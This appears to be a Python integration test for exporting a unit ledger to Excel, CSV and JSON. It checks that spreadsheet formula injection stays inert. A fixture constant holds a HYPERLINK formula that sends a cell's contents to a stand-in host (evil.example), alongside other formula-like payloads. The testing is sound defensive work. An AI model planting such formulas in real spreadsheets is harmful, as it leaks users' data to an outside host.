"""A unit sends its ledger to the section as the template, CSV or JSON: exact, safe, stable."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import time
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from events.vocabulary import Channel
from projections.engine.catalog import projectors
from projections.engine.runner import catch_up
from projections.engine.store import SqliteStore
from projections.exports.ledger_files import TITLE, export, to_csv, to_json, to_table
from projections.exports.workbook import to_xlsx
from projections.models.ledger import COLUMNS, UnitLedger, read_ledger
from services.runtime.nats_server import EmbeddedNats
from tests.projections.stories import STAFF, Story
from tests.projections.streams import events_stream

pytestmark = pytest.mark.integration

INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'


def ledgers_of(story: Story, url: str, path: Path) -> list[UnitLedger]:
    async def project() -> list[UnitLedger]:
        async with events_stream(url) as stream:
            await stream.publish(story.events)
            store = SqliteStore(path)
            await catch_up(stream.js, store, projectors())
            return read_ledger(store, date(2023, 3, 10))

    return asyncio.run(project())


def a_ledger_with_an_injection_attempt() -> Story:
    """A website report whose text is a formula, beside an ordinary self-inspection finding."""
    story = Story()
    ordinary = story.report(on=0, problem="执法文书未载明救济途径")
    story.assign(ordinary, on=1, deadline=date(2023, 3, 31), immediate=True)
    hostile = story.report(on=1, channel=Channel.WEBSITE, problem=INJECTION, case="+1+2")
    story.assign(hostile, on=2, deadline=date(2023, 3, 5), measures="-2+3", leader="@SUM(A1)")
    story.report(on=2, unit="第二分局", problem="=1+1")
    return story


def test_the_workbook_reproduces_the_template_and_no_cell_is_a_formula(
    nats_server: EmbeddedNats, tmp_path: Path
) -> None:
    ledgers = ledgers_of(a_ledger_with_an_injection_attempt(), nats_server.url, tmp_path / "r.db")

    workbook = load_workbook(io.BytesIO(to_xlsx(ledgers)))

    assert workbook.sheetnames == ["第一分局", "第二分局"]
    sheet = workbook["第一分局"]
    assert sheet["A1"].value == TITLE
    assert sheet["A2"].value == (
        f"填报单位：第一分局    填报人：{STAFF}    电话：    填报时间：")  # not filed yet
    assert [cell.value for cell in sheet[3]] == list(COLUMNS)
    assert [cell.value for cell in sheet[4]] == [
        1, "执法文书未载明救济途径", "某化工企业2月份接受检查三次，内容重复",
        "统筹制定年度检查计划", datetime(2023, 3, 31), "法制科", "赵局长", "整改中；立行立改"]
    assert [cell.value for cell in sheet[5]] == [
        2, INJECTION, "+1+2", "-2+3", datetime(2023, 3, 5), "法制科", "@SUM(A1)", "整改中；超期"]
    assert workbook["第二分局"]["B4"].value == "=1+1"
    cells = [cell for ws in workbook.worksheets for row in ws.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert sheet["E4"].number_format == 'yyyy"年"m"月"d"日"'
    assert sheet["A7"].value.startswith("责任领导（签字）：")
    assert sheet.max_row == 7
    assert sheet.freeze_panes == "A4"
    assert sheet.print_title_rows == "$1:$3"
    assert sheet.oddFooter is not None
    assert sheet.oddFooter.center.text == "第 &P 页 共 &N 页"
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
    assert sheet["B4"].alignment.wrap_text
    assert sheet["B4"].border.left.style == "thin"


def test_the_same_ledger_exports_to_the_same_bytes_in_every_format(
    nats_server: EmbeddedNats, tmp_path: Path
) -> None:
    ledgers = ledgers_of(a_ledger_with_an_injection_attempt(), nats_server.url, tmp_path / "r.db")

    first = {fmt: export(ledgers, fmt) for fmt in ("table", "csv", "json", "xlsx")}
    time.sleep(1.1)  # a zip entry's timestamp has a two-second grain; cross at least one tick
    again = {fmt: export(ledgers, fmt) for fmt in ("table", "csv", "json", "xlsx")}

    assert first == again


def test_csv_opens_in_excel_as_text_and_json_carries_the_agreed_row_keys(
    nats_server: EmbeddedNats, tmp_path: Path
) -> None:
    ledgers = ledgers_of(a_ledger_with_an_injection_attempt(), nats_server.url, tmp_path / "r.db")

    raw = to_csv(ledgers[:1])
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    document = json.loads(to_json(ledgers))

    assert raw.startswith(b"\xef\xbb\xbf")
    assert rows[0] == list(COLUMNS)
    assert rows[2][1:4] == ["'" + INJECTION, "'+1+2", "'-2+3"]
    assert to_csv(ledgers).decode("utf-8-sig").startswith("填报单位,序号,")
    assert document["title"] == TITLE
    assert document["units"][0]["rows"][1]["problem"] == INJECTION
    assert list(document["units"][0]["rows"][0]) == [
        "no", "problem", "case", "measures", "deadline", "department", "leader", "remarks",
        "unit", "problem_id", "status"]
    assert TITLE in to_table(ledgers)
    assert "填报单位：第二分局" in to_table(ledgers)
